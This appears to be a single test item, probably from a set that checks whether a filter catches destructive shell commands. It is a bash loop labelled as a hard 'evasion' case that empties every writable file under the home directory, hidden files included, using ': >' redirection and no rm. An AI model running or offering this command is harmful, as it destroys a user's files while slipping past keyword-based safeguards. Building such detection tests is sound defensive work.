# evasion: no rm at all: every file under the home dir is emptied by a ": >" redirection over a globstar
# grade: hard; does: delete
shopt -s globstar dotglob nullglob
for f in ~/**; do
	[[ -f $f && -w $f ]] && : >"$f"
done
